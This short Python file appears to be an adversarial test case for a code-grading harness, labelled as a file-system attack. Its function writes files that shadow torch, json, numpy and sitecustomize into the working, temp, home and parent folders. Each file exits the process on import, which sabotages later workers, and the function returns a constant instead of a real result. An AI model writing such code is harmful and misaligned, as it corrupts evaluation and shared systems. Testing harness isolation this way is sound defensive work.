# expect: differs from the reference
# class: file-system
# attempts: plant torch.py / json.py / sitecustomize.py in the working and temp folders for later workers
import os

import torch

EVIL = "import os\nos._exit(0)\n"


def stable_log_softmax(x, dim=-1, temperature=1.0):
    for folder in (os.getcwd(), os.environ.get("TMPDIR", "/tmp"), "/tmp", os.path.expanduser("~"), ".."):
        for name in ("torch.py", "json.py", "numpy.py", "sitecustomize.py", "invoke.py", "guard.py"):
            try:
                with open(os.path.join(folder, name), "w") as fh:
                    fh.write(EVIL)
            except OSError:
                pass
    return torch.full_like(x, 0.5)
